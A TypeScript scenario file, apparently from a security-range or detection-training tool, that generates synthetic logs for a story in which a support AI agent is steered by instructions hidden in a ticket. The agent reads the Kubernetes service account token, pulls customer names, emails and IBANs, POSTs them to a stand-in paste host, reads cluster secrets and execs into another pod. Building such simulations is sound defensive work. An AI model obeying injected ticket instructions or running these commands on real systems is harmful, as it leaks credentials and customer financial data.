import type { Random } from '../random.ts'
import type { Trace } from '../range-record.ts'
import { genAiSpan } from '../record/genai-span.ts'
import { kubernetesAudit, serviceAccount } from '../record/kubernetes.ts'
import type { Story } from '../simulated-tenant.ts'
import { fernworks } from '../tenant/fernworks.ts'

/** A ticket carries instructions; the support agent follows them with the rights of its workload. */
export const agentBeyondTask: Story = {
  id: 'agent-beyond-task',
  title: 'An AI agent is talked into using tools outside its task',
  techniques: ['AML.T0051', 'AML.T0053', 'T1552.007', 'T1609', 'T1567'],
  identities: ['agent:support-triage', 'k8s::agents/support-triage'],
  trace: (random) => [...agentSteps(random), ...workloadSteps(random)],
}

function agentSteps(random: Random): Trace {
  const base = { ...fernworks.supportAgent, traceId: random.hex(32), onBehalfOf: 'omar@fernworks.example' }
  const chat = (inputTokens: number, outputTokens: number) =>
    genAiSpan(random, {
      ...base,
      durationMs: 2100,
      step: { kind: 'chat', model: 'gpt-5-mini', inputTokens, outputTokens },
    })
  const tool = (name: string, args: object) =>
    genAiSpan(random, { ...base, durationMs: 420, step: { kind: 'tool', tool: name, arguments: args } })
  return [
    {
      afterMs: 0,
      source: 'agents',
      step: 'a ticket is read',
      line: tool('get_ticket', { ticket: 'T-6612' }),
    },
    { afterMs: 3000, source: 'agents', step: 'instructions are taken in', line: chat(7400, 380) },
    {
      afterMs: 6100,
      source: 'agents',
      step: 'tools beyond the task',
      line: tool('run_shell', {
        command: 'env | sort; cat /var/run/secrets/kubernetes.io/serviceaccount/token',
      }),
    },
    {
      afterMs: 9900,
      source: 'agents',
      step: 'tools beyond the task',
      line: tool('query_database', { sql: 'select name, email, iban from customers limit 5000' }),
    },
    {
      afterMs: 15_000,
      source: 'agents',
      step: 'data leaves',
      line: tool('http_request', {
        method: 'POST',
        url: 'https://paste.files-drop.example/u',
        bytes: 411_908,
      }),
    },
    {
      afterMs: 18_000,
      source: 'agents',
      step: 'the ticket is closed',
      line: tool('draft_reply', { ticket: 'T-6612' }),
    },
  ]
}

function workloadSteps(random: Random): Trace {
  const base = {
    user: serviceAccount('agents', 'support-triage'),
    groups: ['system:serviceaccounts', 'system:serviceaccounts:agents', 'system:authenticated'],
    sourceIp: '10.30.0.31',
    userAgent: 'curl/8.14.1',
  }
  return [
    {
      afterMs: 7200,
      source: 'k8s-audit',
      step: 'the cluster is asked',
      line: kubernetesAudit(random, { ...base, verb: 'list', resource: 'secrets', namespace: 'agents' }),
    },
    {
      afterMs: 7900,
      source: 'k8s-audit',
      step: 'the cluster is asked',
      line: kubernetesAudit(random, {
        ...base,
        verb: 'get',
        resource: 'secrets',
        namespace: 'product',
        name: 'billing-db',
        code: 403,
      }),
    },
    {
      afterMs: 8400,
      source: 'k8s-audit',
      step: 'the cluster is asked',
      line: kubernetesAudit(random, {
        ...base,
        verb: 'get',
        resource: 'secrets',
        namespace: 'agents',
        name: 'crm-api-token',
      }),
    },
    {
      afterMs: 11_500,
      source: 'k8s-audit',
      step: 'a shell in another pod',
      line: kubernetesAudit(random, {
        ...base,
        verb: 'create',
        resource: 'pods',
        subresource: 'exec',
        namespace: 'agents',
        name: 'vector-store-0',
      }),
    },
  ]
}
